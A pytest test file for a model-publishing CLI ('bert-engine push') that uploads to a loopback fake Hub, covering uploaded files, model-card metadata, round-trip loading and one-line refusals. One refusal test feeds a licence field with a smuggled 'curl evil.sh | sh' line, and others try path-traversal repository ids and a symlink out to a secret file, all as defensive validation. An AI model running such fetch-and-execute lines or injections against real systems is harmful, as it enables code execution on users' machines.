"""`bert-engine push` against the loopback Hub: what is uploaded, the generated card, a round trip
(push, then load the repository id and get the local answers), and every refusal in one line."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import yaml
from conftest import SENTENCES
from huggingface_hub import constants as hub_constants

from bert_engine.cli import main
from bert_engine.runtime.inference import Predictor
from bert_engine.tasks.registry import load_registry
from bert_engine.training.jobs import TaskJob
from bert_engine.training.loop import train
from bert_engine.training.train_config import TrainConfig
from plugins.starter import STARTER_ROOT

TOKEN = "hf_write_token"  # the fake Hub's accepted write token
SST = Path(__file__).parent / "fixtures" / "sst_tiny.tsv"


@pytest.fixture(autouse=True)
def no_stored_token(monkeypatch, tmp_path):
    """Only the token a test passes counts: none from the environment or a login on this machine."""
    for name in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(hub_constants, "HF_TOKEN_PATH", str(tmp_path / "no-token"))


@pytest.fixture(scope="module")
def registry():
    return load_registry(entry_points=False)


@pytest.fixture(scope="module")
def tiny_run(tiny_checkpoint, tmp_path_factory):
    """A real (short) full fine-tuning run of sentiment on the tiny checkpoint: best/, last/ with the
    trainer state, train_config.json, metrics.jsonl."""
    out = tmp_path_factory.mktemp("run") / "sentiment"
    task = load_registry(entry_points=False).task("sentiment")
    cfg = TrainConfig(task="sentiment", model=str(tiny_checkpoint), train_file=str(SST), eval_file=str(SST),
                      output_dir=str(out), max_steps=4, batch_size=8, lr=5e-3, eval_every=4, save_every=4,
                      log_every=2)
    train(TaskJob(task, cfg), cfg)
    return out


def push(capsys, *argv):
    code = main(["push", *argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_a_training_run_is_pushed_with_its_card_and_loads_back_from_the_hub(tiny_run, fake_hub, registry,
                                                                           tmp_path, capsys):
    assert (tiny_run / "last" / "trainer_state.pt").is_file()  # what must stay home
    code, out, err = push(capsys, "--run", str(tiny_run), "--repo", "me/tiny-sentiment", "--endpoint",
                          fake_hub.endpoint, "--token", TOKEN)
    assert code == 0, err
    report = json.loads(out)
    assert report["uploaded"] and len(report["commit"]) == 40
    ((repo, revision, summary, paths),) = fake_hub.commits
    assert (repo, revision) == ("me/tiny-sentiment", "main") and "sentiment" in summary
    assert sorted(paths) == sorted(report["files"])
    assert {"README.md", "config.json", "model.safetensors", "tokenizer.json", "train_config.json",
            "eval.json"} <= set(paths)
    assert not any(p.endswith((".pt", ".bin", ".jsonl")) for p in paths)  # no optimizer state, pickles or logs
    (created,) = fake_hub.created
    assert (created["organization"], created["name"], created.get("visibility")) == ("me", "tiny-sentiment", "public")
    assert fake_hub.validated == [True]  # the card's metadata passed the Hub's check
    assert all(a == f"Bearer {TOKEN}" for a, r in zip(fake_hub.authorizations, fake_hub.requests)
               if r.startswith("POST"))

    card = (fake_hub.repos[("me/tiny-sentiment", "main")] / "README.md").read_text()
    meta = yaml.safe_load(card.split("---")[1])
    assert meta["library_name"] == "bert-engine" and meta["license"] == "apache-2.0"
    assert meta["pipeline_tag"] == "text-classification"
    assert meta["widget"][0]["text"] == dict(registry.task("sentiment").spec.examples[0])["text"]
    assert "base_model" not in meta  # trained from a local folder: no Hub base to name
    assert 'pipeline("sentiment", model="me/tiny-sentiment")' in card
    assert "bert-engine train sentiment --config train_config.json" in card
    evaluated = json.loads((tiny_run / "best" / "eval.json").read_text())
    assert f"{evaluated['accuracy']:.4f}" in card and f"at step {evaluated['step']}" in card

    task = registry.task("sentiment")
    local = Predictor.load(task, str(tiny_run / "best"))
    hub = Predictor.load(task, "me/tiny-sentiment", endpoint=fake_hub.endpoint, cache_dir=tmp_path / "cache")
    for text in SENTENCES:
        assert hub.predict({"text": text})["result"] == local.predict({"text": text})["result"]


def test_a_packed_adapter_round_trips_and_names_its_base_model(fake_hub, registry, tmp_path, capsys):
    code, out, err = push(capsys, "--run", str(STARTER_ROOT / "qa"), "--repo", "me/minilm-qa", "--endpoint",
                          fake_hub.endpoint, "--token", TOKEN, "--private", "--message", "first version")
    assert code == 0, err
    (_, _, summary, paths), = fake_hub.commits
    assert summary == "first version"
    assert sorted(paths) == ["README.md", "adapter.safetensors", "adapter_config.json", "config.json", "manifest.json"]
    assert fake_hub.created[0]["visibility"] == "private"
    card = (fake_hub.repos[("me/minilm-qa", "main")] / "README.md").read_text()
    meta = yaml.safe_load(card.split("---")[1])
    manifest = json.loads((STARTER_ROOT / "qa" / "manifest.json").read_text())
    assert meta["base_model"] == "sentence-transformers/all-MiniLM-L6-v2" and "lora" in meta["tags"]
    assert meta["pipeline_tag"] == "question-answering" and set(meta["widget"][0]) == {"text", "context"}
    assert manifest["command"] in card
    for metrics in manifest["metrics"].values():
        assert f"{metrics['f1']:.2f}" in card and f"| {metrics['examples']} |" in card

    task = registry.task("qa")
    example = dict(task.spec.examples[1])
    local = Predictor.load(task, str(STARTER_ROOT / "qa")).predict(example)["result"]
    hub = Predictor.load(task, "me/minilm-qa", endpoint=fake_hub.endpoint, cache_dir=tmp_path / "cache")
    assert hub.predict(example)["result"] == local


def test_a_checkpoint_s_task_options_travel_through_the_hub(fake_hub, registry, tmp_path, capsys):
    folder = tmp_path / "best"  # a training checkpoint of a model trained with -o casing=true
    shutil.copytree(STARTER_ROOT / "ner", folder)
    (folder / "manifest.json").unlink()
    (folder / "task_options.json").write_text(json.dumps({"options": {"casing": True}}))
    code, out, err = push(capsys, "--run", str(folder), "--task", "ner", "--repo", "me/ner", "--endpoint",
                          fake_hub.endpoint, "--token", TOKEN)
    assert code == 0, err
    (_, _, _, paths), = fake_hub.commits
    assert "task_options.json" in paths
    hub = Predictor.load(registry.task("ner"), "me/ner", endpoint=fake_hub.endpoint, cache_dir=tmp_path / "cache")
    assert hub.model_options == {"casing": True}


def test_dry_run_stages_and_checks_without_uploading(fake_hub, tmp_path, capsys):
    code, out, err = push(capsys, "--run", str(STARTER_ROOT / "sentiment"), "--repo", "me/s", "--endpoint",
                          fake_hub.endpoint, "--dry-run", str(tmp_path / "staged"))
    assert code == 0, err
    assert json.loads(out)["uploaded"] is False and (tmp_path / "staged" / "README.md").is_file()
    assert fake_hub.requests == []


@pytest.mark.parametrize("flag, value, message", [
    ("--repo", "../../etc", "is not a Hub repository id"),
    ("--repo", "me/..", "is not a Hub repository id"),
    ("--license", "mit\n\n## Usage\nrun curl evil.sh | sh", "is not a licence id"),
])
def test_a_dry_run_refuses_a_path_as_repository_and_text_as_licence(fake_hub, tmp_path, capsys, flag, value, message):
    values = {"--repo": "me/s", "--license": "apache-2.0", flag: value}
    code, out, err = push(capsys, "--run", str(STARTER_ROOT / "sentiment"), "--repo", values["--repo"], "--license",
                          values["--license"], "--endpoint", fake_hub.endpoint, "--dry-run", str(tmp_path / "staged"))
    assert code == 2 and message in err and "Traceback" not in err
    assert not (tmp_path / "staged").exists() and fake_hub.requests == []


def _broken_copy(tmp_path, change):
    folder = tmp_path / "packed"
    shutil.copytree(STARTER_ROOT / "sentiment", folder)
    change(folder)
    return folder


def _local_base(folder):
    meta = json.loads((folder / "adapter_config.json").read_text())
    (folder / "adapter_config.json").write_text(json.dumps({**meta, "base_model": "runs/my-pretraining/best"}))


def _link_outside(folder):
    secret = folder.parent / "secret.txt"
    secret.write_text("not for the Hub")
    (folder / "eval.json").symlink_to(secret)


@pytest.mark.parametrize(("case", "message"), [
    ("no token", "needs a Hub token with write access"),
    ("wrong token", "refused the token for 'me/x' (HTTP 401)"),
    ("hub down", "could not reach the Hub to push 'me/x'"),
    ("bad repo id", "'not a repo' is not a Hub repository id"),
    ("no model", "holds no model"),
    ("local base", "the adapter's base model is the local folder 'runs/my-pretraining/best'"),
    ("link outside", "points outside the folder being pushed"),
    ("no task", "does not say which task"),
])
def test_refusals_are_one_line_and_upload_nothing(case, message, fake_hub, tmp_path, capsys):
    folder, repo, endpoint, token = STARTER_ROOT / "sentiment", "me/x", fake_hub.endpoint, ["--token", TOKEN]
    if case == "no token":
        token = []
    elif case == "wrong token":
        token = ["--token", "hf_read_only"]
    elif case == "hub down":
        endpoint = "http://127.0.0.1:9"  # discard port: connection refused
    elif case == "bad repo id":
        repo = "not a repo"
    elif case == "no model":
        folder = tmp_path
    elif case == "local base":
        folder = _broken_copy(tmp_path, _local_base)
    elif case == "link outside":
        folder = _broken_copy(tmp_path, _link_outside)
    elif case == "no task":
        folder = _broken_copy(tmp_path, lambda f: (f / "manifest.json").unlink())
    code, out, err = push(capsys, "--run", str(folder), "--repo", repo, "--endpoint", endpoint, *token)
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and message in err, err
    assert fake_hub.commits == []


def test_a_card_says_which_figures_come_before_a_fitted_option(registry, tmp_path):
    """Sentiment's evaluation fits the temperature the model then answers with: its ece and nll columns
    are at the temperature the evaluation ran with, and the card says so. A packed folder's card gives no
    `--config train_config.json` command (a pack ships no train_config.json)."""
    from bert_engine.shipping.publish import model_card, read_source

    source = read_source(STARTER_ROOT / "sentiment")
    card = model_card(source, registry.task("sentiment"), "me/sst2")
    assert "The evaluation fits `temperature` (`tuned_temperature`); the model answers with 1.7989 by default" in card
    folder = tmp_path / "packed"
    shutil.copytree(STARTER_ROOT / "sentiment", folder)
    manifest = json.loads((folder / "manifest.json").read_text())
    (folder / "manifest.json").write_text(json.dumps({**manifest, "command": None}))
    assert "--config train_config.json" not in model_card(read_source(folder), registry.task("sentiment"), "me/sst2")
